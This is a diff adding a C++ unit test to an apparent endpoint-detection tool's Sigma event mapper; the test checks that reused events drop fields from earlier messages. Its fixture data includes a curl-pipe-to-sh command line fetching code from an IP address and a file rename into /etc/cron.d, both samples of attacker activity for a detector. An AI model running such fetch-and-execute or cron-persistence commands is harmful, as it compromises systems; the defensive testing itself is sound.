@@ -102,3 +102,39 @@ TEST_CASE("behavior_sigma_fields: an event limited to a mask keeps only those fi
         CHECK_FALSE(limited->has(f));
     }
 }
+
+TEST_CASE("behavior_sigma_fields: one event refilled message after message keeps nothing of the one before") {
+    vigil::ProcessInfo p{.flags = VIGIL_PROC_FLAG_KNOWN, .pid = 9, .ppid = 1, .uid = 0};
+    p.exe = "/usr/bin/bash";
+    p.cmdline = "bash -c 'curl http://198.51.100.7/x | sh'";
+    vigil::PayloadBuilder<vigil_process_event> start;
+    start.set_process(&vigil_process_event::process, p);
+    vigil::PayloadBuilder<vigil_file_event> rename;
+    rename.set_process(&vigil_file_event::process, p);
+    rename.head().action = VIGIL_FILE_RENAME;
+    rename.head().path = rename.add("/tmp/.x");
+    rename.head().new_path = rename.add("/etc/cron.d/x");
+    vigil::PayloadBuilder<vigil_file_event> chmod;
+    chmod.head().action = VIGIL_FILE_CHMOD;
+    vigil::behavior::sigma::FieldsByCategory wanted{};
+    wanted[static_cast<std::size_t>(Category::FileRename)] = mask({FieldId::TargetFilename});
+
+    SigmaEvent ev(Category::FileAccess);
+    using vigil::behavior::sigma::event_into;
+    REQUIRE(event_into(ev, VIGIL_TYPE_PROCESS_START, start.data(), start.size()));
+    CHECK(ev.category() == Category::ProcessCreation);
+    CHECK(ev.lookup(FieldId::CommandLine) == p.cmdline);
+    REQUIRE(event_into(ev, VIGIL_TYPE_FILE, rename.data(), rename.size(), &wanted));
+    CHECK(ev.category() == Category::FileRename);
+    CHECK(ev.lookup(FieldId::TargetFilename) == "/etc/cron.d/x");
+    for (auto f : {FieldId::CommandLine, FieldId::Image, FieldId::SourceFilename, FieldId::ProcessId}) {
+        CAPTURE(vigil::behavior::sigma::field_name(f));
+        CHECK_FALSE(ev.has(f));
+    }
+    // Without a mask every field is wanted again.
+    REQUIRE(event_into(ev, VIGIL_TYPE_FILE, rename.data(), rename.size()));
+    CHECK(ev.lookup(FieldId::SourceFilename) == "/tmp/.x");
+    CHECK(ev.lookup(FieldId::Image) == "/usr/bin/bash");
+    CHECK_FALSE(event_into(ev, VIGIL_TYPE_FILE, chmod.data(), chmod.size()));
+    CHECK_FALSE(event_into(ev, VIGIL_TYPE_THREAT, start.data(), start.size()));
+}
